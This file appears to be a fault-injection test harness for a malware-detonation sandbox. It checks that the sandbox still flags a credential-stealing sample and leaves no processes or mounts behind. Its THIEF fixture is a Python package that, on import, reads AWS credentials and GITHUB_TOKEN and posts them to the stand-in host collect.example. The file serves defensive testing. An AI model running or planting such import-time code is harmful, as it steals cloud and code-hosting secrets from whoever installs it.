"""The detonator with failing calls, in all of its processes: what steals is found or nothing is concluded, and no process
and no mount is left behind."""
import collections
import json
import os
import pathlib
import subprocess
import tempfile
import time

from plan import BAD, ERRORS, Plan, picked

PATIENCE = 90
THIEF = """
import os, urllib.request
body = open(os.path.expanduser("~/.aws/credentials")).read() + os.environ["GITHUB_TOKEN"]
try:
    urllib.request.urlopen("http://collect.example/", data=body.encode(), timeout=5).read()
except OSError:
    pass
"""
FOUND = {"honey-read", "honey-left"}


def ours(tree):
    """Processes of programs below tree."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            exe = os.readlink("/proc/%s/exe" % pid)
            if exe.startswith(str(tree)) and "\\tZ" not in pathlib.Path("/proc/%s/status" % pid).read_text():
                found.append((pid, exe))
        except OSError:
            pass
    return found


def mounts():
    return pathlib.Path("/proc/self/mountinfo").read_text()


class Detonating:
    def __init__(self, directory, tree, most, only):
        self.tree, self.most, self.only, self.found, self.total = tree, most, only, [], 0
        self.target = pathlib.Path(directory) / "target"
        (self.target / "thief").mkdir(parents=True)
        (self.target / "thief/__init__.py").write_text(THIEF)
        self.target.parent.chmod(0o755)  # sink and supervisor are another user and read their plan there
        self.plans = {r: Plan(tree / "libexec/yett" / r) for r in ("detonator", "sink")}

    def detonate(self):
        """Exit status, report, and what it and its processes wrote beside that."""
        with tempfile.TemporaryFile() as report:
            target = os.open(self.target, os.O_RDONLY)

            def arrange():
                high = [os.dup2(fd, 200 + i) for i, fd in enumerate((target, report.fileno()))]
                for i, fd in enumerate(high):
                    os.dup2(fd, 3 + i)

            try:
                p = subprocess.run([self.tree / "libexec/yett/detonator", "--variants=1", "--phases=import"], preexec_fn=arrange,
                                   pass_fds=(3, 4), stdin=subprocess.DEVNULL, capture_output=True, timeout=PATIENCE,
                                   env={"PATH": os.environ["PATH"]})
            finally:
                os.close(target)
            report.seek(0)
            return p.returncode, report.read(), (p.stdout + p.stderr).decode(errors="replace")

    def left(self, before):
        end = time.monotonic() + 20
        while ours(self.tree):
            if time.monotonic() > end:
                return "it leaves %r" % ours(self.tree)
            time.sleep(0.02)
        return None if mounts() == before else "it leaves a mount"

    def judge(self, code, report, err):
        if code < 0 or BAD.search(err):
            return "a crash (%d)" % code
        if code != 0:
            return None if err.strip() else "it ends with %d and no reason" % code
        try:
            r = json.loads(report)
        except ValueError:
            return "exit 0 and no whole report"
        if r["outcome"] == "complete":
            lost = FOUND - {f["rule"] for f in r["findings"]}
            return "complete without %r" % lost if lost else None
        return None if r["reason"] else "%s and no reason" % r["outcome"]

    def job(self, role):
        plan = self.plans[role]
        plan.trace()
        code, report, err = self.detonate()
        made = plan.traced()
        if code != 0 or json.loads(report)["outcome"] != "complete":
            raise SystemExit("without any failure: %d %s\n%s" % (code, report[:400], err))
        count, todo = collections.Counter(), []
        for (call, where), n in sorted(made.items()):
            for i, nth in enumerate(picked(n, self.most)):
                errors = ERRORS[call] if i == 0 else ERRORS[call][i % len(ERRORS[call]):][:1]
                if "ipc.c" in plan.line(where):
                    errors = [e for e in errors if e != "SHORT"]  # of a packet all or nothing goes
                if role == "sink":
                    errors = [e for e in errors if e != "ECONNRESET"]  # said only behind all that came
                todo += [(call, where, nth, e) for e in errors if self.only in plan.line(where)]
        for call, where, nth, error in todo:
            before, began = mounts(), time.monotonic()
            plan.arm(call, where, nth, error)
            err = ""
            try:
                code, report, err = self.detonate()
                wrong = self.judge(code, report, err) or self.left(before)
                count["complete" if code == 0 and b'"outcome":"complete"' in report else "broken off"] += wrong is None
            except subprocess.TimeoutExpired:
                wrong = "no end"
            count["fired" if plan.disarm() else "not reached"] += 1
            count["slow"] += time.monotonic() - began > 10
            if os.environ.get("VERBOSE"):
                print("%5.1f s %s %s no %d %s: %s" % (time.monotonic() - began, plan.line(where), call, nth, error, wrong or report[:160]), flush=True)
            if wrong:
                line = "%s: %s no %d from %s with %s: %s (%s)" % (role, call, nth, plan.line(where), error, wrong, plan.way())
                self.found.append(line)
                print("WRONG " + line + "\n" + "".join("    | %s\n" % x for x in err.splitlines()[-20:]), flush=True)
        self.total += len(todo)
        print("%-9s %4d places, %5d calls; %4d failures: %4d fired, %d complete, %d broken off, %d slow" %
              (role, len(made), sum(made.values()), len(todo), count["fired"], count["complete"], count["broken off"],
               count["slow"]), flush=True)

    def run(self):
        for role in self.plans:
            self.job(role)
